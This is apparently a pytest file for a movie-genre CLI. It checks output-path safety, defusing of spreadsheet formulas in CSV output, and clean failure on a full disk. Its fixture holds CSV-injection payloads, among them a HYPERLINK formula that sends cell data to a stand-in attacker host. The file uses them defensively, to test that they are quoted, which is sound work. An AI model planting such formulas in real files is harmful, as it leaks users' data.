"""Files a command writes where the user says: only regular files are replaced, never an input,
spreadsheet formulas in the CSV are defused, and a failed write is one line with nothing left."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import os
import stat
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from moviegenre.cli.app import app
from moviegenre.core import stage
from moviegenre.core.errors import MovieGenreError
from moviegenre.core.files import atomic_dir, atomic_path, write_json

HOSTILE_MOVIES = [
    {"id": "0000001", "title": "=1+1", "plot": "a man walks into a bar and talks", "genres": "Drama"},
    {"id": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "title": "@SUM(1+1)",
     "plot": "a woman finds a dog in the city", "genres": "Comedy"},
    {"id": "0000003", "title": "-2+3", "plot": "they fight and laugh all night", "genres": "Drama|Comedy"},
    {"id": "0000004", "title": "+SUM(1;2)", "plot": "a ship sails into a storm at sea", "genres": "Drama"},
    {"id": "0000005", "title": "Plain", "plot": "a quiet family story in a small town", "genres": "Drama"},
]  # fmt: skip


def _dataset(path: Path, movies: list[dict] = HOSTILE_MOVIES) -> Path:
    """A CSV-layout archive of plot-only movies."""
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=["id", "title", "year", "plot", "genres", "poster"])
    writer.writeheader()
    writer.writerows({**movie, "year": 2000, "poster": ""} for movie in movies)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("movies.csv", text.getvalue())
    return path


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class _FixedPredictor:
    """What the trained pipeline gives, without one: the probabilities do not matter here."""

    def __init__(self, paths: object, modalities: tuple[str, ...] = ("poster", "plot")) -> None:
        self.genres = ["Drama", "Comedy"]

    def predict_with_sets(self, posters: list, plots: list) -> tuple[dict[str, np.ndarray], np.ndarray]:
        scores = {"ensemble": np.tile([0.25, 0.75], (len(plots), 1))}
        return scores, scores["ensemble"] >= 0.5


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The cwd in a temporary folder, and prediction with a fixed stand-in for the trained models."""
    import moviegenre.predict.predictor

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(moviegenre.predict.predictor, "Predictor", _FixedPredictor)
    return tmp_path


def _run(*args: str) -> tuple[int, str]:
    """Exit status and stderr of `moviegenre ARGS`."""
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.stderr


def _one_error(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.startswith("error:") or "Traceback" in line]
    assert len(lines) == 1, stderr
    return lines[0]


# --- only regular files are replaced -----------------------------------------------------------


def _symlink_to_stdout(where: Path) -> Path:
    where.symlink_to("/proc/self/fd/1")
    return where


def _symlink_to_a_file(where: Path) -> Path:
    (where.parent / "precious.txt").write_text("precious")
    where.symlink_to(where.parent / "precious.txt")
    return where


def _fifo(where: Path) -> Path:
    os.mkfifo(where)
    return where


def _char_device(where: Path) -> Path:
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    os.mknod(where, 0o644 | stat.S_IFCHR, os.makedev(1, 7))  # what /dev/full is
    return where


NOT_REGULAR: dict[str, tuple[Callable[[Path], Path], str]] = {
    "symlink to stdout": (_symlink_to_stdout, "is a symbolic link"),
    "symlink to a file": (_symlink_to_a_file, "is a symbolic link"),
    "fifo": (_fifo, "is a FIFO"),
    "character device": (_char_device, "is a character device"),
}


def _kind(path: Path) -> tuple[int, str | None]:
    mode = os.lstat(path).st_mode
    return stat.S_IFMT(mode), os.readlink(path) if stat.S_ISLNK(mode) else None


@pytest.mark.parametrize("make", NOT_REGULAR.values(), ids=NOT_REGULAR.keys())
@pytest.mark.parametrize(
    "command",
    [
        ["predict", "--dataset", "movies.zip", "--out"],
        ["report", "--out"],
        ["plots-template", "--out"],
        ["check-params", "--stamp"],
    ],
    ids=["predict", "report", "plots-template", "check-params"],
)
def test_an_output_that_is_not_a_regular_file_is_refused_and_left_as_it_was(
    project: Path, command: list[str], make: tuple[Callable[[Path], Path], str]
) -> None:
    _dataset(project / "movies.zip")
    (project / "x").mkdir()
    target = make[0](project / "x" / "out")
    before = _kind(target)
    code, stderr = _run(*command, str(Path("x") / "out"))
    assert code == 2
    assert _one_error(stderr).startswith(f"error: {Path('x') / 'out'}: {make[1]}")
    assert _kind(target) == before
    if (project / "x" / "precious.txt").exists():
        assert (project / "x" / "precious.txt").read_text() == "precious"


def test_a_directory_as_predict_out_is_refused_naming_it(project: Path) -> None:
    (project / "preds").mkdir()
    code, stderr = _run("predict", "--dataset", "movies.zip", "--out", "preds")
    assert code == 2 and _one_error(stderr) == "error: preds: is a directory; give --out a file name"


def test_a_regular_output_is_replaced_and_keeps_nothing_of_the_old_file(project: Path) -> None:
    _dataset(project / "movies.zip")
    (project / "preds.csv").write_text("old\n" * 1000)
    code, stderr = _run("predict", "--dataset", "movies.zip", "--out", "preds.csv")
    assert code == 0, stderr
    assert pd.read_csv(project / "preds.csv", dtype=str)["id"].tolist()[0] == "0000001"


# --- never an input --------------------------------------------------------------------------


def _file_url(archive: Path) -> str:
    return archive.resolve().as_uri()


def _tilde(archive: Path) -> str:
    return "~/" + archive.name


def _symlink(archive: Path) -> str:
    (archive.parent / "link.zip").symlink_to(archive.name)
    return "link.zip"


def _hard_link(archive: Path) -> str:
    os.link(archive, archive.parent / "hard.zip")
    return "hard.zip"


def _dotted(archive: Path) -> str:
    (archive.parent / "sub").mkdir()
    return f"sub/../{archive.name}"


SPELLINGS = {"file:// URL": _file_url, "~": _tilde, "symlink": _symlink, "hard link": _hard_link, "..": _dotted}


@pytest.mark.parametrize("spell", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_out_naming_the_input_archive_any_way_is_refused_and_the_archive_kept(
    project: Path, monkeypatch: pytest.MonkeyPatch, spell: Callable[[Path], str]
) -> None:
    monkeypatch.setenv("HOME", str(project))
    archive = _dataset(project / "movies.zip")
    digest = _sha256(archive)
    source = spell(archive)
    code, stderr = _run("predict", "--dataset", source, "--out", "movies.zip")
    assert code == 2
    assert _one_error(stderr) == (
        f"error: movies.zip: is part of the dataset being predicted; give --out a path outside {source}"
    )
    assert _sha256(archive) == digest


def test_out_inside_a_dataset_folder_given_as_a_file_url_is_refused(project: Path) -> None:
    (project / "movies").mkdir()
    keep = project / "movies" / "movies.csv"
    keep.write_text("id,title\n")
    code, stderr = _run("predict", "--dataset", (project / "movies").as_uri(), "--out", "movies/movies.csv")
    assert code == 2 and "is part of the dataset being predicted" in _one_error(stderr)
    assert keep.read_text() == "id,title\n"


# --- spreadsheet formulas --------------------------------------------------------------------


def test_text_cells_and_headers_that_start_a_formula_get_a_quote_numbers_do_not() -> None:
    from moviegenre.cli.predict_output import spreadsheet_safe

    frame = pd.DataFrame({
        "id": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", "a=b"],
        "=genre": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7],
        "n": [-1, 2, 3, 4, 5, 6, 7, 8],
    })  # fmt: skip
    safe = spreadsheet_safe(frame)
    assert safe["id"].tolist() == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", "a=b"]
    assert list(safe.columns) == ["id", "'=genre", "n"]
    assert safe["'=genre"].tolist() == frame["=genre"].tolist() and safe["n"].tolist() == frame["n"].tolist()
    assert frame["id"].iloc[0] == "=1+1"  # the caller's frame is left as it was


def test_predict_csv_defuses_formulas_by_default_and_raw_csv_keeps_them(project: Path) -> None:
    _dataset(project / "movies.zip")
    assert _run("predict", "--dataset", "movies.zip", "--out", "safe.csv")[0] == 0
    assert _run("predict", "--dataset", "movies.zip", "--out", "raw.csv", "--raw-csv")[0] == 0
    safe = pd.read_csv(project / "safe.csv", dtype=str, keep_default_na=False).set_index("title")
    raw = pd.read_csv(project / "raw.csv", dtype=str, keep_default_na=False).set_index("title")
    assert set(safe.index) == {"'-2+3", "'=1+1", "'@SUM(1+1)", "'+SUM(1;2)", "Plain"}
    assert set(raw.index) == {"+SUM(1;2)", "-2+3", "=1+1", "@SUM(1+1)", "Plain"}
    assert safe.loc["'@SUM(1+1)", "id"] == "'" + HOSTILE_MOVIES[1]["id"]
    assert safe.loc["Plain", "id"] == "0000005"
    assert safe["Comedy"].astype(float).tolist() == [0.75] * 5  # probabilities stay numbers


def test_raw_csv_without_dataset_is_refused(project: Path) -> None:
    code, stderr = _run("predict", "--plot", "a dog in the city", "--raw-csv")
    assert code == 2 and _one_error(stderr) == (
        "error: --out, --raw-csv and --scheduler are for --dataset; one movie's answer is printed"
    )


# --- a failed write: one line, nothing left ----------------------------------------------------


def _disk_full(*args: object, **kwargs: object) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_a_full_disk_while_writing_predictions_is_one_line_and_the_old_csv_stays(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _dataset(project / "movies.zip")
    (project / "preds.csv").write_text("last good\n")
    to_csv = pd.DataFrame.to_csv

    def full_for_preds(frame: pd.DataFrame, path: object, *args: object, **kwargs: object) -> object:
        target = getattr(path, "name", path)  # --out's temporary, or a stream open on it
        if Path(str(target)).name.startswith(".preds.csv."):
            _disk_full()
        return to_csv(frame, path, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_for_preds)
    code, stderr = _run("predict", "--dataset", "movies.zip", "--out", "preds.csv")
    assert code == 2
    assert _one_error(stderr) == "error: preds.csv: cannot write it (No space left on device); nothing was written"
    assert (project / "preds.csv").read_text() == "last good\n"
    assert sorted(p.name for p in project.iterdir()) == ["movies.zip", "preds.csv"]


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs /proc")
def test_report_out_where_no_file_can_be_made_is_one_line_before_any_work(project: Path) -> None:
    code, stderr = _run("report", "--out", "/proc/x.md")  # no git repository here: the check comes first
    assert code == 2 and _one_error(stderr).startswith("error: /proc: cannot write --out there (")


def test_atomic_writes_turn_a_full_disk_into_one_error_naming_the_target(tmp_path: Path) -> None:
    target = tmp_path / "metrics.json"
    target.write_text("last good")
    with pytest.raises(MovieGenreError) as caught, atomic_path(target) as tmp, tmp.open("w"):
        _disk_full()
    assert str(caught.value) == f"{target}: cannot write it (No space left on device); nothing was written"
    with pytest.raises(MovieGenreError, match="cannot write it"), atomic_dir(tmp_path / "model") as folder:
        (folder / "half").write_text("half")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(folder / "weights.h5"))
    assert target.read_text() == "last good"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["metrics.json"]


def test_an_error_reading_another_file_inside_an_atomic_write_is_not_blamed_on_the_target(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError), atomic_path(tmp_path / "out.csv"):
        (tmp_path / "input.csv").read_text()
    assert list(tmp_path.iterdir()) == []


def _atomic_write_on_a_full_disk() -> None:
    write_json("metrics/x.json", {})
    with atomic_path("metrics/y.json") as tmp, tmp.open("w"):
        _disk_full()


def _library_write_on_a_full_disk() -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "dvclive/b/metrics.json")


@pytest.mark.parametrize(
    ("failure", "line"),
    [
        (
            _atomic_write_on_a_full_disk,
            "error: metrics/y.json: cannot write it (No space left on device); nothing was written",
        ),
        (_library_write_on_a_full_disk, "error: dvclive/b/metrics.json: No space left on device"),
    ],
    ids=["atomic-write", "library-write"],
)
def test_a_stage_that_hits_a_full_disk_exits_2_with_one_line_naming_the_file(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    failure: Callable[[], None],
    line: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as exited:
        stage.run(failure)
    assert exited.value.code == 2
    assert _one_error(capsys.readouterr().err) == line
    assert not list(tmp_path.rglob("*.tmp")) and not (tmp_path / "metrics" / "y.json").exists()


def test_report_to_a_full_stdout_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    from moviegenre.cli.app import _write_stdout

    class FullStream(io.StringIO):
        def flush(self) -> None:
            _disk_full()

    monkeypatch.setattr(sys, "stdout", FullStream())
    with pytest.raises(MovieGenreError, match=r"^stdout: cannot write the report \(No space left on device\)$"):
        _write_stdout("## report\n")
